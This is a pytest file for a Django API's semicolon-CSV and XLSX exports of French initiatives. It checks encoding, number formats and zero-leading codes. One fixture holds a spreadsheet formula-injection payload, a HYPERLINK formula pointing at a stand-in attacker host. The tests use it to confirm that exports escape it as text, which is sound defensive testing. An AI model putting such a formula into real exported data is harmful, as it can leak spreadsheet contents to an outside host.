"""Exports that open right in a French Excel: the semicolon CSV (`sep=semicolon`) and the XLSX
(`format=xlsx`) of the initiative list, next to the comma CSV, which stays the default."""

import codecs
import csv
import io

import pytest
from openpyxl import load_workbook

from api.exports import CSV_COLUMNS
from core.xlsx import CONTENT_TYPE as XLSX_TYPE
from tests.factories import (
    CommuneFactory,
    DepartementFactory,
    InitiativeFactory,
    StoredAssessmentFactory,
)

pytestmark = pytest.mark.django_db

LIST_URL = "/api/v1/initiatives/"
NAME = "Épicerie « Chez Zoé », Foix"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'


@pytest.fixture
def in_ariege():
    """An initiative whose codes start with a zero (Foix, Ariège), and one named as a formula."""
    ariege = DepartementFactory(code="09", name="Ariège")
    foix = CommuneFactory(
        insee_code="09122", name="Foix", departement=ariege, postal_codes=["09000"]
    )
    initiative = InitiativeFactory(
        name=NAME,
        commune=foix,
        postal_code="09000",
        latitude=42.9653,
        longitude=1.6069,
        opening_hours="Mardi; samedi",
    )
    StoredAssessmentFactory(initiative=initiative, score=62.5, max_score=100)
    InitiativeFactory(name=FORMULA, commune=foix, postal_code="09000")
    return initiative


def content(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def excel_text(raw: bytes) -> str:
    """What Excel reads in a CSV file: UTF-8 when the byte-order mark says so, otherwise the
    Windows-1252 code page of a French Windows."""
    if raw.startswith(codecs.BOM_UTF8):
        return raw[len(codecs.BOM_UTF8) :].decode("utf-8")
    return raw.decode("cp1252", errors="replace")


# --- CSV, semicolon -------------------------------------------------------------------------------


def test_the_semicolon_csv_reads_in_a_french_spreadsheet(api, in_ariege):
    raw = content(api.get(LIST_URL, {"format": "csv", "sep": "semicolon"}))

    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == CSV_COLUMNS  # the same columns as the comma CSV
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    row = by_id[in_ariege.slug]
    assert row["nom"] == NAME
    assert row["horaires"] == "Mardi; samedi"
    assert (row["departement"], row["code_postal"], row["code_insee"]) == ("09", "09000", "09122")
    # Decimal comma for decimal numbers; integers as they are.
    assert (row["latitude"], row["longitude"]) == ("42,9653", "1,6069")
    assert (row["score"], row["score_max"]) == ("62,5", "100")
    formula = next(r for r in by_id.values() if r["nom"].endswith(FORMULA))
    assert formula["nom"] == "'" + FORMULA


def test_accents_survive_because_the_byte_order_mark_is_honoured(api, in_ariege):
    raw = content(api.get(LIST_URL, {"format": "csv", "sep": "semicolon"}))

    assert NAME in excel_text(raw)
    # Without the mark, Excel falls back to Windows-1252 and the accents come out garbled.
    garbled = excel_text(raw[len(codecs.BOM_UTF8) :])
    assert NAME not in garbled
    assert "Ã‰picerie" in garbled


def test_the_comma_csv_is_still_the_default(api, in_ariege):
    default = content(api.get(LIST_URL, {"format": "csv"}))
    comma = content(api.get(LIST_URL, {"format": "csv", "sep": "comma"}))

    assert default == comma
    rows = list(csv.DictReader(io.StringIO(default.decode("utf-8-sig"))))
    row = next(r for r in rows if r["id"] == in_ariege.slug)
    assert (row["score"], row["latitude"], row["departement"]) == ("62.5", "42.9653", "09")


@pytest.mark.parametrize("params", [{"sep": "tab"}, {"sep": ""}, {"format": "json", "sep": ";"}])
def test_an_unknown_separator_is_refused_in_json(api, params):
    response = api.get(LIST_URL, {"format": "csv", **params})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["sep"]


def test_each_separator_has_its_own_etag(api, in_ariege):
    comma = api.get(LIST_URL, {"format": "csv"})
    content(comma)

    semicolon = api.get(
        LIST_URL, {"format": "csv", "sep": "semicolon"}, HTTP_IF_NONE_MATCH=comma["ETag"]
    )

    assert semicolon.status_code == 200
    assert semicolon["ETag"] != comma["ETag"]
    content(semicolon)


# --- XLSX -----------------------------------------------------------------------------------------


def xlsx_rows(response) -> dict[str, dict]:
    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="initiatives.xlsx"'
    sheet = load_workbook(io.BytesIO(content(response))).active
    header = [cell.value for cell in sheet[1]]
    assert header == CSV_COLUMNS
    return {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}


def test_the_xlsx_keeps_codes_as_text_and_numbers_as_numbers(api, in_ariege):
    rows = xlsx_rows(api.get(LIST_URL, {"format": "xlsx"}))

    cells = rows[in_ariege.slug]
    for name, code in (("departement", "09"), ("code_postal", "09000"), ("code_insee", "09122")):
        assert cells[name].value == code, name
        assert cells[name].data_type == "s", name
        assert cells[name].number_format == "@", name
    assert cells["nom"].value == NAME
    for name, number in (("score", 62.5), ("score_max", 100), ("latitude", 42.9653)):
        assert cells[name].value == number, name
        assert cells[name].data_type == "n", name
    formula = next(r for r in rows.values() if r["nom"].value.endswith(FORMULA))
    assert formula["nom"].value == "'" + FORMULA
    assert formula["nom"].data_type == "s"  # text, never a formula


def test_the_xlsx_honours_the_filters(api, in_ariege):
    rows = xlsx_rows(api.get(LIST_URL, {"format": "xlsx", "eligible": "true"}))

    assert list(rows) == [in_ariege.slug]


def test_xlsx_errors_are_explained_in_json(api):
    response = api.get(LIST_URL, {"format": "xlsx", "departement": "75"})

    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")


def test_the_schema_documents_the_formats_and_the_separator(api):
    schema = api.get("/api/schema/", {"format": "json"}).json()

    operation = schema["paths"]["/api/v1/initiatives/"]["get"]
    parameters = {p["name"]: p for p in operation["parameters"]}
    assert parameters["format"]["schema"]["enum"] == ["csv", "geojson", "json", "xlsx"]
    assert parameters["sep"]["schema"]["enum"] == ["comma", "semicolon"]
    assert set(operation["responses"]["200"]["content"]) == {
        "application/json",
        "text/csv",
        "application/geo+json",
        XLSX_TYPE,
    }
